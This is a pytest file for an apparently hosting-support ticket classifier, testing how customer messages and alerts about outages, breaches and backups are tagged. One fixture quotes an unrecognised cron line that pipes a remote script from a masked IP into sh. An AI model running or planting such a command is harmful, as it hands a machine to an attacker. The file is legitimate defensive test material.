    # backups that do not restore, memory that cannot be corrected, a damaged filesystem, a search that finds nothing.
    ("No rush. Someone called saying they were from your security team; I did read them the 6-digit code that "
     "arrived by SMS.", "risk", "read them the"),
    ("Un client a reçu un mail de notre adresse avec une de nos factures, mais avec un RIB modifié, et il a déjà fait "
     "un virement de 18 400 €. Nous n'avons jamais envoyé ça.", "risk", "rib modifié"),
    ("Our DR test failed: gzip: stdin: invalid compressed data--crc error. The 6 Dec and 1 Dec backups: same error.",
     "risk", "invalid compressed data"),
    ("Petite question : est-il normal que notre serveur ait redémarré 4 fois cette nuit ?\n\nkernel: EDAC MC0: 1 UE "
     "memory read error on DIMM#0 (uncorrectable)", "risk", "uncorrectable"),
    ("Mon fils a vu ça en tapant dmesg : EXT4-fs error (device vda1): ext4_lookup:1855: deleted inode referenced: "
     "1312540. Est-ce que c'est grave ?", "risk", "deleted inode referenced"),
    ("La recherche produits renvoie zéro résultat sur tout le site depuis 21h.", "down", "zéro résultat"),
])
def test_what_the_blind_sets_wm_to_wt_say_at_stake_is_read(text, term, said):
    h = terms(heat([customer(at(0), text)], at(1)))
    assert said in h[term] and "calm" not in h


def test_a_restore_promised_within_the_hour_that_did_not_come_is_a_promise_missed():
    events = [customer(at(0), "Le dossier Factures a été supprimé ce matin. Pouvez-vous le restaurer depuis la "
                              "sauvegarde d'hier soir ?"),
              us(at(0.3), "Je lance la restauration depuis la sauvegarde de 23h hier, ce sera fait dans l'heure."),
              customer(at(4), "Bonjour, je ne vois toujours pas le dossier.")]
    h = heat(events, at(5))
    assert "promised" in terms(h) and "waiting 3 h" in terms(h)["waiting"]


@pytest.mark.parametrize("text, fell", [
    ("Pour info, une de nos collaboratrices a reçu ce matin un mail qui se fait passer pour vous : « Facture impayée, "
     "votre service sera suspendu », avec un lien vers nuagerie-paiement.com. Elle n'a pas cliqué, elle me l'a "
     "transféré.", False),
    ("We got a phishing email pretending to be you this morning. Nobody clicked, just so you know.", False),
    ("Not urgent, but FYI - we got an email that looks like it's from you saying our payment failed. Your logo and "
     "everything. I didn't click. Is it real?", False),
    ("Une collaboratrice a reçu un mail qui se fait passer pour vous, elle a cliqué et a saisi son mot de passe.",
     True),
    ("We got a phishing email pretending to be you. I didn't click, but my colleague clicked and typed her password.",
     True),
])
def test_a_scam_nobody_fell_for_is_a_heads_up_not_a_risk(text, fell):
    assert ("risk" in terms(heat([customer(at(0), text)], at(1)))) is fell


@pytest.mark.parametrize("text", [
    "Je précise que c'est seulement la page /inscription. Je reste debout jusqu'à ce que ça remarche.",
    "Only the signup page. Please call me as soon as it works again.",
])
def test_a_closing_word_they_wait_for_is_no_closing(text):
    events = [customer(at(0), 'Le formulaire d\'inscription renvoie "502 Bad Gateway" depuis ce soir.'),
              customer(at(1), text)]
    h = heat(events, at(2))
    assert not h.probably_done and "down" in terms(h)


@pytest.mark.parametrize("text, term, said", [
    # Their customers cannot buy, or mail sent to them comes back, said calmly.
    ("Another three messages tonight from customers who can't order, all on mobile. Starting to think it's not "
     "them.", "down", "can't order"),
    ("A couple of people said their emails to us bounced this week, but that happens sometimes doesn't it.", "down",
     "emails to us bounced"),
    # What they send every night has not come since a day named.
    ("Our nightly order export (the script that pushes a CSV to our warehouse's SFTP at 1am) hasn't arrived since "
     "Friday night.", "down", "order export hasn't arrived since"),
    ("Le flux EDI vers notre grossiste n'est pas arrivé depuis samedi.", "down", "n'est pas arrive depuis"),
    # A domain past its expiry, about to be deleted, said as "probably spam".
    ("Probably spam but I got an email saying our domain \"is in redemption period and will be deleted on December "
     "23\". Is that real?", "risk", "redemption period"),
    # They pay for our fault on every parcel.
    ("Depuis la mise à jour, le module calcule 0,00 € de frais de port. Nous avons déjà expédié 47 colis à nos frais "
     "depuis ce matin.", "words", "à nos frais"),
    # A payment skimmer and a root login nobody on their side made, told politely.
    ("Probably nothing, but a customer said a second form popped up asking for her card PIN when she paid. I found "
     "/js/jquery-min2.js which I don't think we ever added. No worries if it's tomorrow.", "risk",
     "asking for her card pin"),
    ("Our SIEM flagged a root login on app-01 at 03:12. None of our team was connected at that time and that key "
     "fingerprint isn't one of ours. Is this one of your engineers?", "risk", "none of our team was connected"),
    # Files renamed and a note in every folder: ransomware, told by an intern.
    ("Sur le lecteur partagé S: tous les fichiers s'appellent maintenant bilan_2025.xlsx.locked et il y a un fichier "
     "LISEZ_MOI_RESTAURATION.txt dans chaque dossier. Je ne sais pas si c'est grave.", "risk",
     "lisez_moi_restauration.txt"),
    # A database reading back damaged blocks; their invoices listed for anyone, found on Google.
    ("Depuis 8h45 nos logs PostgreSQL remontent : ERROR: could not read block 18342 in file \"base/16384/24612\". "
     "Plusieurs tables en erreur. On arrête l'appli ou pas ?", "risk", "tables en erreur"),
    ("Un client tombe sur sa facture chez nous en tapant son nom sur Google. En allant dans /uploads/factures/ on "
     "voit la liste de TOUTES les factures (noms, adresses, montants).", "risk", "liste de toutes les factures"),
    # A share of their requests failing, growing.
    ("Error rate is up to 9% this morning as traffic grows. Our mobile app users are complaining in the store "
     "reviews.", "down", "error rate is up"),
    # What their suppliers send them has stopped coming.
    ("Quick one, probably nothing: our AP team haven't seen a single supplier invoice since Friday. Could you check "
     "the forward survived the weekend move?", "down", "supplier invoice since"),
    # Gifts or orders taken but never recorded.
    ("Sorry to bother you this late. Our donation page takes the payments, but since about 4pm the donations don't "
     "appear in our admin. No rush if you're busy with others.", "down", "donations don't appear in"),
    # A login nobody on their side made, in a log read "par curiosité".
    ("En regardant par curiosité le fichier auth.log je vois : Accepted password for deploy from 185.220.101.47. "
     "Personne ne travaille la nuit chez nous. Je ne veux pas vous déranger pour rien.", "risk",
     "personne ne travaille la nuit"),
    ("Depuis ce matin Outlook affiche un avertissement de certificat. Une partie des gens clique sur Oui et ça "
     "marche, les autres n'ont plus de mail du tout.", "down", "plus de mail du tout"),
    # A queue nothing takes from any more; jobs that stopped running.
    ("Our Sidekiq 'mailers' queue has 18k jobs enqueued, nothing processed since Tuesday. Apparently our users "
     "haven't been getting any notifications for two days.", "down", "nothing processed since"),
    ("Le consumer group dispatch-service a un lag qui grimpe, on ne traite plus les nouvelles commandes de "
     "livraison.", "down", "on ne traite plus"),
    ("Depuis l'incident de cette nuit il me semble que nos tâches planifiées ne tournent plus. Rien d'urgent de "
     "votre côté je pense.", "down", "tâches planifiées ne tournent plus"),
])
def test_what_the_blind_sets_wq_to_vf_say_at_stake_is_read(text, term, said):
    h = terms(heat([customer(at(0), text)], at(1)))
    assert said in h[term] and "calm" not in h


@pytest.mark.parametrize("text, term, said", [
    # A directory listing showing their backups to anyone, told by someone who does not know what it is.
    ("Bonjour, je ne sais pas si c'est normal mais quand je vais sur mon site il y a écrit \"Index of /\" et une "
     "liste avec des noms de fichiers comme wp-config.php.bak, backup_2026.zip, etc. Au lieu de ma page avec les "
     "chocolats.",
     "risk", "index of /"),
    ("A customer emailed us a screenshot: our homepage shows a list of files, 'Index of /', including one called "
     "backup_db_2026.sql.gz. Is this something we did? I don't know much about websites.", "risk", "backup_db_2026"),
    # The error their customers get when they pay, quoted.
    ("Depuis hier soir, tous nos clients ont le message \"Transaction refusée\" au moment de payer par carte (module "
     "Monetico). Nous n'avons rien modifié.", "down", "Transaction refusée"),
    # A page on their domain passing for a bank's, reported to them, said with "no rush".
    ("Sorry to bother you, it's probably nothing. I got an email from PayPal's security team saying that a page on my "
     "domain 'impersonates the PayPal login'. No rush, whenever you have a minute.", "risk", "impersonates"),
    ("Several valid gift card codes found and drained already (7 customers reported a zero balance).", "risk",
     "found and drained"),
    # Records gone from their database, asked about calmly.
    ("Small question: our bookkeeper noticed that orders from Dec 28 to Dec 31 seem to be missing from the database "
     "(about 140 of them). No panic, just want to know our options.", "risk", "missing from the database"),
    # What no longer leaves for the warehouse.
    ("Je remarque que nos commandes ne sont plus transmises à l'entrepôt depuis lundi. Est-ce lié à la migration ?",
     "down", "ne sont plus transmises"),
])
def test_what_the_blind_sets_vg_to_vj_say_at_stake_is_read(text, term, said):
    h = terms(heat([customer(at(0), text)], at(1)))
    assert said in h[term] and "calm" not in h


@pytest.mark.parametrize("text, term, said", [
    # No room left, as the upload's error or the customer says it.
    ("Our clients get \"Not enough free space\" / \"quota exceeded\" when they upload to our Nextcloud. I deleted "
     "some old stuff but it still says full.", "down", "quota exceeded"),
    ("Le site nous dit qu'il n'y a plus de mémoire. Impossible de mettre les photos des nouveaux maillots.", "down",
     "n'y a plus de mémoire"),
    # A sync or a scheduled job that stopped; no mail arriving at all.
    ("Hello, the calendar on my website stopped syncing with Airbnb and Booking. Can you help?", "down",
     "stopped syncing"),
    ("Hate to do this but it's happening again: no cron run since 18:00 UTC, and our invoicing job (21:00 UTC) didn't "
     "fire.", "down", "didn't fire"),
    ("Depuis ce matin, aucune des boîtes de l'entreprise ne reçoit de mail (8 personnes). L'envoi fonctionne.",
     "down", "ne reçoit de mail"),
    # What we fixed has stopped again.
    ("It stopped again at 02:50 UTC. Backlog 41k now and growing, same symptom. Can you look at the root cause this "
     "time?", "down", "stopped again"),
    # A link that keeps dropping, their users' sessions with it.
    ("Since ~15:10 Paris our site-to-site VPN from the Nantes office drops every few minutes. Payroll team (22 people) "
     "lose their sessions each time.", "down", "lose their sessions"),
    ("FYI, the site-to-site VPN between our office and db-bz-41 has been dropping roughly every 10 minutes since 11:00 "
     "UTC. Each drop kicks all 25 users out of the ERP.", "down", "dropping roughly every 10 minutes"),
    ("Le VPN saute toutes les 10 minutes depuis midi.", "down", "saute toutes les 10 minutes"),
    # Their files damaged on the way to the disk; their site deleted by their own hand.
    ("We're seeing I/O errors in dmesg on media-rp-01, and some user-uploaded photos from the last 2 hours are "
     "corrupted (bottom half grey). Should we stop the app?", "risk", "are corrupted"),
    ("Probably nothing, but our weekly backup report for db-paie-02 lists the last three nightly jobs as \"skipped\". "
     "Could someone confirm?", "risk", "backup report for db-paie-02"),
    ("hi, i ran rm -rf on the wrong folder over ssh and public_html is gone. do you have backup from last night?? "
     "please", "risk", "rm -rf on the wrong"),
    # A dump that failed, the last good copy; a queue nothing takes from; their relay listed; an account taken.
    ("Our nightly dump of the CRM database failed twice this week.", "risk", "dump of the crm database failed"),
    ("FYI our nightly pg_dump to the offsite bucket failed again (quota). That leaves us with one valid backup, from "
     "Saturday.", "risk", "one valid backup"),
    ("Our site is up again after the weekend but Action Scheduler has processed nothing since Saturday 02:00.", "down",
     "processed nothing since"),
    ("Our outgoing mail bounces: the relay IP is listed on SpamCop since this morning.", "down", "listed on spamcop"),
    ("Probablement un compte WP compromis : des milliers de mails partent du site.", "risk", "compte wp compromis"),
    ("Our weekly scan flagged 6379 open on db-01, and Redis has no password on that box.", "risk", "has no password"),
    # A mount gone read-only, the kernel killing their app, their domains expired, their relay's queue held.
    ("fyi /mnt/shared on app01-04 flipped to read-only around 23:30, app is queuing uploads. not urgent-urgent yet.",
     "down", "flipped to read-only"),
    ("Suite à un souci de prélèvement, 6 domaines de nos clients ont expiré. Les sites affichent une page de "
     "parking et les mails rebondissent.", "down", "affichent une page de parking"),
    ("Our scheduled jobs haven't run since the OS upgrade on Monday. Could you check?", "down", "jobs haven't run"),
    ("WARNING postfix queue relay-03: 2 300 messages deferred", "slow", "messages deferred"),
    # A login or a cron line nobody on their side made; their data listed or reachable for anyone; backups not run.
    ("Je reçois une alerte de notre outil : connexion root réussie à 23h02 depuis 185.220.x.x (pas nous).", "risk",
     "connexion root réussie"),
    ("je vois dans crontab -l une ligne que je n'ai pas mise : */5 * * * * curl -s http://45.9.x.x/x.sh | sh", "risk",
     "que je n'ai pas mise"),
    ("Testing from my home wifi I can connect to our redis on port 6379 without any password and run KEYS *.", "risk",
     "without any password"),
    ("after yesterday's migration, our bucket 'kyc-docs' seems to be listable without auth", "risk",
     "listable without auth"),
    ("Our nightly backups have not run for 12 days, no rush.", "risk", "backups have not run"),
    # Someone posing as our support asks for their secrets; a login nobody on their side made.
    ("A guy called me saying he's from your support, that there's an incident on your storage and he needs my root "
     "password. I didn't give it. Is this legit?", "risk", "needs my root password"),
    ("En regardant les logs je vois ça, je ne reconnais pas cette IP, ce n'est ni nous ni vous :\n  May 19 03:12:44 "
     "paie-srv1 sshd[28811]: Accepted publickey for root from 45.134.26.118 port 51522 ssh2\nC'est normal ?", "risk",
     "ne reconnais pas cette ip"),
])
def test_what_the_blind_sets_vk_to_vv_say_is_read(text, term, said):
    h = terms(heat([customer(at(0), text)], at(1)))
    assert said in h[term] and "calm" not in h


def test_our_replies_lost_on_them_are_a_frustration():
    """We answered in French a customer who reads only English: she waits, and says so."""
    h = terms(heat([customer(at(0), "Sorry, I don't speak French. Is there a problem with my site? Please write in "
                                    "English.")], at(1)))
    assert "i don't speak french" in h["words"]


@pytest.mark.parametrize("text, word, said", [
    ("Bonjour, pouvez-vous renouveler le certificat de urgence-plomberie.fr ?", "urgence",
     "C'est une urgence : pouvez-vous renouveler le certificat de urgence-plomberie.fr ?"),
    ("Bonjour, le calendrier de a.roche@meunier-avocats.fr ne se met plus à jour sur son iPhone.", "avocat",
     "Bonjour, le calendrier de a.roche@meunier-avocats.fr ne se met plus à jour. Je vais appeler mon avocat."),
    ("Please add a vhost for www.angry-birds-fans.com, thanks.", "angry",
     "I'm angry: please add a vhost for www.angry-birds-fans.com."),
])
def test_a_word_inside_their_domain_or_address_is_no_word_of_theirs(text, word, said):
    assert "words" not in terms(heat([customer(at(0), text)], at(1)))
    assert word in terms(heat([customer(at(0), said)], at(1)))["words"]


def test_a_server_s_own_controller_reporting_a_failing_disk_is_the_machine_s_word():
    """iDRAC records its alert as an action: no engineer acted, the last disk of a mirror is failing."""
    alert = machine(at(0), "ALERT ds-arcadia-01: Physical Disk 0:1:1 predictive failure (SMART Reallocated_Sector_Ct "
                           "1822, rising). Virtual Disk 0 (RAID1) state: Degraded - member 0:1:0 failed 2026-10-08, "
                           "replacement pending.", author="iDRAC")
    assert terms(heat([alert], at(0, 10), tier="critical"))["risk"].startswith("a note says")


def test_a_call_of_ours_that_reached_voicemail_answers_nothing():
    """Our monitoring found the shop down; we wrote (an out-of-office answered) and called (voicemail)."""
    story = [note(at(0), "PROBLEM: HTTP check failed on www.epicerie-fine.fr (web-lac-01) - HTTP 500 - 10 consecutive "
                         "failures"),
             us(at(0, 15), "Bonjour, notre supervision détecte que votre boutique renvoie une erreur 500 depuis 8h20. "
                           "Avez-vous effectué une modification récemment ?"),
             Event(at(0, 40), "call", "out", "thomas", "Appel au numéro du contact technique : messagerie. Message "
                                                       "laissé. Pas d'autre contact dans la fiche client.", "phone")]
    assert "down" in terms(heat(story[:2], at(2)))  # telling them what is broken fixes nothing
    assert "down" in terms(heat(story, at(2)))
    reached = Event(at(0, 40), "call", "out", "thomas", "Appel avec Mme Lacoste : j'ai désactivé le module de "
                                                        "paiement, la boutique fonctionne de nouveau.", "phone")
    assert "down" not in terms(heat([*story[:2], reached], at(2)))


def test_telling_them_what_only_our_side_has_seen_fixes_nothing():
    """Nobody on their side has written: the phishing kit an abuse report found stays at risk after our mail."""
    report = machine(at(0), "Report received from Netcraft: phishing kit imitating a bank login at "
                            "https://www.harbourviewdental.ie/wp-content/uploads/secure-login/index.php. Removal "
                            "required within 24h.", author="abuse-desk")
    told = us(at(0, 30), "Hello, we have received an abuse report about a phishing page on your website. Please "
                         "contact us urgently so we can clean it up together.")
    assert "risk" in terms(heat([report, told], at(10)))
    cleaned = us(at(0, 30), "Hello, I've removed the phishing page and changed the admin passwords.")
    assert "risk" not in terms(heat([report, cleaned], at(10)))


def test_the_mail_relay_s_own_record_is_the_machine_s_word():
    """A calm "not urgent I guess", then the relay's log of refused logins: their order mails stopped."""
    asked = customer(at(0), "hi there, not urgent I guess but since this morning our shop doesn't seem to send the "
                            "order confirmation emails anymore. Could you check when you have a sec?")
    relay = Event(at(0, 40), "action", "internal", "mail-relay", "Auth failures for shop@littlefern.co.uk on "
                  "smtp.ardoise-hosting.fr: 214 in last 6h (535 5.7.8 authentication failed)", "tool")
    assert terms(heat([asked, relay], at(1)))["down"].startswith("a note says")


def test_asking_us_to_close_a_port_is_no_closing():
    h = heat([customer(at(0), "Our weekly scan flagged 3306 and 6379 open on db-01. Your engineer said he would "
                              "temporarily open the firewall. Please close it now and tell us whether anything "
                              "connected in the meantime.")], at(1))
    assert not h.probably_done and "waiting" in terms(h)
    assert heat([customer(at(0), "All good now, please close the ticket.")], at(1)).probably_done


def test_asking_where_our_promise_is_says_the_outage_is_still_on():
    broken = customer(at(0), "Our payment processor can't deliver webhooks to hooks.fernpay.com.au - they report DNS "
                             "SERVFAIL. 300+ orders stuck so far.")
    promised = us(at(0, 10), "Hi Oliver, I'm checking whether we can serve your zone as secondary from our "
                             "nameservers; I'll come back to you within 30 minutes.")
    chased = customer(at(1), "Any news on the secondary NS? It's been 40 min. Stuck payments now 520.")
    assert "down" in terms(heat([broken, promised, chased], at(1, 10)))
    # After a fix, a question about something else is no outage.
    fixed = us(at(0, 10), "Hi Oliver, done: your zone is now served by our nameservers and webhooks arrive again.")
    other = customer(at(1), "Great. Any news on the invoice I asked about last week?")
    assert "down" not in terms(heat([broken, fixed, other], at(1, 10)))


def test_handing_an_outage_to_the_team_that_can_fix_it_is_a_promise():
    h = heat([customer(at(0), "Since 15:10 our site-to-site VPN drops every few minutes."),
              us(at(0, 10), "Hi Ingrid, thanks for the mtr. I see errors on one uplink of vpn-gw2, checking with the "
                            "network team now.")], at(0, 40))
    assert "down" in terms(h)


def test_working_only_without_www_is_no_closing():
    h = heat([customer(at(0), "When I go to www.seasaltcandles.co.uk Chrome shows a big red warning 'Your connection "
                              "is not private'. Without www it works.")], at(1))
    assert not h.probably_done and "down" in terms(h)


def test_an_engineer_finding_a_dump_anyone_can_download_puts_the_case_at_risk():
    story = [customer(at(0), "We got your email about the incident. Is our site affected?"),
             us(at(0, 15), "Hi Sam, I'm checking your account now and will get back to you."),
             note(at(2), "Found /public_html/backup_2026-12-06.sql (212 MB) readable over HTTP. Contains wc "
                          "customers table: ~18k emails. Customer not informed yet.")]
    assert "at risk" in terms(heat(story, at(3)))["risk"]
    assert "risk" not in terms(heat(story[:2], at(3)))


def test_a_watchdog_rebooting_a_vm_is_the_machine_s_word_not_an_engineer_acting():
    """Nobody has written yet: the watchdog's reboots say the VM is down, as the monitoring's would."""
    reboots = [machine(at(0), "Hard reboot vps-prod-5512 : VM ne répond plus (kernel panic détecté sur la console).",
                       author="watchdog"),
               machine(at(0, 20), "Hard reboot #3 vps-prod-5512 : seuil de boucle de crash atteint, redémarrages "
                                  "automatiques suspendus. VM arrêtée.", author="watchdog")]
    assert terms(heat(reboots, at(1)))["down"].startswith("a note says it is down")


def test_the_test_they_ran_on_our_work_passing_closes_the_case_and_its_deadline():
    events = [customer(at(0), "Hi, we need the web tier at 6 nodes and the DB doubled for our Saturday sale, by "
                              "Friday noon please."),
              us(at(20), "Hi Emily, all done: 6 web nodes behind the load balancer and the DB at 16 vCPU."),
              customer(at(22), "Confirmed, load test passed at 8x normal traffic. Thanks, great job!")]
    h = heat(events, at(30), tier="critical")
    assert h.probably_done and "'load test passed'" in terms(h)["done"] and "deadline" not in terms(h)


def test_praise_for_the_work_is_a_thank_you():
    h = heat([customer(at(0), "Le site est en panne !"), us(at(1), FIX), customer(at(2), "Merci, super boulot !")],
             at(3))
    assert "waiting" not in terms(h) and "down" not in terms(h)


def test_the_date_our_old_platform_stops_for_good_quoted_back_to_us_is_their_deadline():
    """They quote our migration notice and think all is fine: the shutdown it names is due by itself."""
    quoted = customer(at(0), "Bonjour, j'ai reçu votre mail sur la migration :\n\n> IMPORTANT : vous devez remplacer "
                             "vos enregistrements MX avant le jeudi 26 novembre 18h00 UTC, date d'arrêt définitif de "
                             "l'ancienne plateforme.\n\nNos mails fonctionnent toujours, donc je suppose que tout va "
                             "bien ?")
    assert terms(heat([quoted], at(1)))["deadline"].startswith("their deadline Thu 26 Nov 18:00")


def test_a_migration_tool_s_check_is_the_machine_s_word():
    check = machine(at(0), "Contrôle post-migration : MX toujours vers l'ancienne plateforme (non basculé). 143 "
                           "messages reçus sur l'ancienne plateforme, mails bloqués depuis dimanche.",
                    author="mail-migration")
    assert terms(heat([check], at(1)))["down"].startswith("a note says it is down")


@pytest.mark.parametrize("text", [
    "Merci beaucoup pour la réactivité et l'analyse, tout est nickel. Bon week-end à l'équipe !",
    "Everything looks perfect now, thanks a lot.",
])
def test_everything_is_perfect_closes_the_case(text):
    h = heat([customer(at(0), "Site en 503 depuis 10 min, urgent."), us(at(1), FIX), customer(at(20), text)],
             at(21), tier="critical")
    assert h.probably_done



def test_an_outage_told_by_how_long_it_lasted_is_over():
    events = [customer(at(0), "our site is DOWN. fix it!"),
              customer(at(1), "Site's back I see. 72 minutes down. I expect a credit on my next invoice for this.")]
    assert "down" not in terms(heat(events, at(2)))
    still = [customer(at(0), "We have had 3 hours of downtime already and it is still down.")]
    assert "down" in terms(heat(still, at(1)))


def test_taking_back_an_alarm_their_own_office_internet_raised_closes_the_case():
    events = [customer(at(0), "URGENT!!! ALL SERVERS DOWN!!! NOTHING WORKS!!! CALL ME NOW!!!"),
              customer(at(0, 10), "Sorry, false alarm - our office internet went down, the sites are fine from 4G. "
                                  "Apologies for the noise! You can close this.")]
    h = heat(events, at(1), tier="critical")
    assert h.probably_done and "down" not in terms(h)


def test_the_site_back_beside_a_new_trouble_is_no_closing():
    """Their thank-you for the site says what broke since: the new trouble stands."""
    events = [customer(at(0), "I updated some plugins and now the whole site is a white page. Please help!"),
              us(at(2), "Hi Anita, the site is back: I restored last night's backup."),
              customer(at(26), "Thank you so much, the site is back and looks perfect! One thing though: since the "
                               "restore, customers aren't getting their order confirmation emails.")]
    h = heat(events, at(27))
    assert not h.probably_done and "down" in terms(h)


def test_a_report_of_an_outage_asked_for_is_not_the_outage():
    h = terms(heat([customer(at(0), "Our uptime robot flagged a 2-minute outage at 08:14 UTC. Can you send an RFO "
                                    "when available?")], at(1)))
    assert "down" not in h


def test_asking_when_it_will_be_back_to_normal_is_no_closing():
    events = [customer(at(0), "Le portail renvoie une erreur 503 à une requête sur deux."),
              us(at(0, 10), "Nous regardons."),
              customer(at(1), "J'ai besoin d'une estimation de votre part pour le retour à la normale, même "
                              "approximative.")]
    h = heat(events, at(1, 30))
    assert not h.probably_done and "down" in terms(h)


def test_a_backup_tool_s_failure_report_dating_the_last_good_backup_says_it_fails():
    report = [machine(at(0), "Job bkp-db01-nightly : FAILED (2 consecutive) / Dernière sauvegarde réussie : "
                             "2026-11-22 23:05 UTC / Erreur : target repository unreachable", author="backup-report"),
              machine(at(1), "Job db-01.cobaltcrm-full FAILED: mysqldump: Error 2013: Lost connection to MySQL server "
                             "during query. Last successful backup: 2026-11-22 01:02 UTC", author="Bacula")]
    for alert in report:
        assert "risk" in terms(heat([alert], at(2))) or "down" in terms(heat([alert], at(2))), alert.author


def test_a_cluster_that_lost_its_quorum_seen_by_the_monitoring_is_down():
    alerts = [machine(at(0), "PROBLEM: db-1: wsrep_cluster_status = non-Primary", author="Zabbix"),
              machine(at(0, 10), "PROBLEM: HTTP check https://shop.example/checkout returned 500: 'WSREP has not yet "
                                 "prepared node for application use'", author="Zabbix")]
    assert terms(heat(alerts, at(1)))["down"].startswith("a note says it is down")


def test_a_receipt_handing_the_case_to_billing_with_its_delay_is_canned():
    events = [customer(at(0), "Mon site et mes mails sont coupés avec un message « service suspendu pour impayé ». "
                              "J'ai payé la facture le 24/11 par virement."),
              us(at(0, 5), "Bonjour, Votre demande a été transmise au service facturation. Délai de traitement : 3 à 5 "
                           "jours ouvrés. Le service facturation", name="billing")]
    h = terms(heat(events, at(1)))
    assert "waiting" in h and "down" in h


def test_successive_free_space_alerts_give_the_pace_the_disk_fills_at():
    """Each alert names a threshold, none a rate: together they say when the database stops."""
    alerts = [machine(at(0), "PROBLEM: db01 - Free disk space on /var/lib/mysql is less than 10% (8.7% free)",
                      author="Zabbix"),
              machine(at(3), "PROBLEM: db01 - Free disk space on /var/lib/mysql is less than 5% (4.1% free)",
                      author="Zabbix"),
              machine(at(5, 50), "PROBLEM: db01 - Free disk space on /var/lib/mysql is less than 3% (2.6% free)",
                      author="Zabbix")]
    h = terms(heat(alerts, at(6)))
    # 95.9 % used at 3:00, 97.4 % at 5:50: about 0.53 % an hour, full near 10:45, in about 5 h
    assert h["deadline"].startswith("a disk fills at the rate reported") and "in 5 h" in h["deadline"]
    # The first two alerts alone gave 1.5 % an hour, full at 5:40: the third one's slower pace replaces it.
    assert "passed" not in h["deadline"]


# --- what the blind sets vx, vy, vz and ua showed ----------------------------------------------------------------

@pytest.mark.parametrize("text, term, said", [
    # Mail that never reaches them, as they say it.
    ("Since Thursday, clients who book through my website don't receive their confirmation email.", "down",
     "don't receive"),
    ("Done – test booking at 10:32 (UK time) under the name TEST TEST. Nothing received, not even in spam.", "down",
     "not even in spam"),
    ("J'ai fait le test à 10h32 : rien reçu, même pas dans les spams.", "down", "même pas dans les spams"),
    # Their telephony no longer on the operator's network.
    ("Depuis le redémarrage de cette nuit, leur passerelle SIP ne s'enregistre plus auprès de l'opérateur.", "down",
     "ne s'enregistre plus"),
    # What the browser's console says it refused to show.
    ("Hello again, a supporter sent us a screenshot of the browser console:\n\n  Refused to frame "
     "'https://js.stripe.com/' because it violates the following Content Security Policy directive: \"frame-src "
     "'self'\".\n\nDid something change in your security headers?", "down", "refused to frame"),
    # A mail server's refusal they paste, written in the past.
    ("Small question, no panic: our SPF record gives 'PermError: too many DNS lookups (12)'. Does that matter?\n\n"
     "Also got this back when emailing a client yesterday:\n\n  550 5.7.23 The message was rejected because of "
     "Sender Policy Framework violation\n\nThanks", "down", "550 5.7.23"),
])
def test_what_the_blind_sets_vx_to_ua_say_is_read(text, term, said):
    h = terms(heat([customer(at(0), text)], at(1)))
    assert said in h[term].lower() and "calm" not in h


@pytest.mark.parametrize("text", [
    "I just added an A record for dev.kiri.app in your DNS panel pointing to our new VM, but it doesn't resolve yet. "
    "Did I do something wrong?",
    "J'ai créé la boîte contact@ hier soir, le nouveau site ne s'affiche pas encore : est-ce normal ?",
])
def test_what_was_just_set_up_and_does_not_work_yet_is_no_outage(text):
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    "The site doesn't resolve since this morning and you haven't replied yet.",
    "It still doesn't resolve yet, three days after the transfer.",
])
def test_what_stopped_working_is_down_whatever_yet_says(text):
    assert "down" in terms(heat([customer(at(0), text)], at(1)))


def test_a_question_they_paste_reports_nothing():
    """An insurer's questionnaire pasted for us to answer names ransomware and offline copies: no risk, no outage."""
    text = ("Our insurer's cyber questionnaire has a section on backups I can't answer myself. Pasting the questions:"
            "\n\n  7.1 How frequently are backups taken?\n  7.3 Are backups stored offline or immutable (cannot be "
            "altered by ransomware)?\n  7.4 Where are backups physically located?\n\nCould you tell me what to put?")
    h = terms(heat([customer(at(0), text)], at(1)))
    assert "risk" not in h and "down" not in h
    pasted_log = text.replace("7.3 Are backups stored offline or immutable (cannot be altered by ransomware)?",
                              "2027-01-02 03:10 files encrypted by ransomware, backup agent offline")
    assert "risk" in terms(heat([customer(at(0), pasted_log)], at(1)))


@pytest.mark.parametrize("calm", ["petite remontée non bloquante", "small report, not blocking us"])
def test_saying_it_is_not_blocking_takes_the_word_blocking_back(calm):
    h = terms(heat([customer(at(0), f"Hello, {calm}: the contact form's CSV export has an extra column.")], at(1)))
    assert "words" not in h and "calm" in h


def test_the_production_said_to_run_well_leaves_only_the_copy_broken():
    text = ("preprod.maison-lacoste.fr est en page blanche depuis lundi (la prod est en 8.3 depuis janvier et tourne "
            "nickel).")
    h = terms(heat([customer(at(0), text)], at(1)))
    assert "down" not in h and "slow" in h


def test_their_yes_to_what_we_asked_leaves_what_was_down_down():
    """We asked leave to fix their shop; a day later they say yes: the shop is still down, and it is our move."""
    story = [customer(at(0), "Bonjour, notre boutique est en page blanche depuis ce matin. Aidez-nous svp."),
             us(at(2), "Bonjour, votre thème est incompatible avec PHP 8.3. Pouvons-nous intervenir nous-mêmes "
                       "(mise à jour des extensions et du thème, après une sauvegarde complète) ?"),
             customer(at(30), "Désolée pour le délai. Oui vous pouvez intervenir, faites ce qu'il faut. Merci !!")]
    assert "down" in terms(heat(story, at(31)))
    # ...not after a reply telling it works, which asks about something else.
    fixed = us(at(2), "Bonjour, c'est réparé : la boutique fonctionne de nouveau. Voulez-vous que nous mettions aussi "
                      "à jour le thème ?")
    assert "down" not in terms(heat([story[0], fixed, story[2]], at(31)))


def test_the_same_error_code_after_our_fix_is_still_down():
    story = [customer(at(0), "About 30% of our customers get '403 - Request blocked by security rules' when paying."),
             us(at(0, 20), "Hi Cindy, I've added an exception for the checkout page; payments should go through now."),
             customer(at(3), "It's better on the checkout page but customers whose bank asks for 3D Secure come back "
                             "to /payment/3ds/return and get the same 403.")]
    assert "down" in terms(heat(story, at(3, 10)))


def test_a_probe_mailing_down_then_up_leaves_nothing_down():
    def probe(when, text):
        return Event(when, "message", "in", "sonde-http@supervision", text, "email")
    flaps = [probe(at(0), "DOWN: https://www.chambres-lavande.fr returned 503 (web-fr-04), 3 checks failed"),
             probe(at(0, 3), "UP: https://www.chambres-lavande.fr responds 200 (0.8 s) after 3 min")]
    h = terms(heat(flaps, at(1)))
    assert "down" not in h and "words" not in h and "repeats" not in h
    assert terms(heat(flaps[:1], at(1)))["down"].startswith("a note says")


def test_where_they_are_until_a_day_is_no_deadline():
    text = ("My blog has shown a white page since Monday. I'm away hiking until next Thursday with very patchy "
            "signal, so no hurry at all, I just didn't want it forgotten.")
    assert "deadline" not in terms(heat([customer(at(0), text)], at(1)))
    assert "deadline" in terms(heat([customer(at(0), "We need it fixed before next Thursday, the launch depends "
                                                     "on it.")], at(1)))


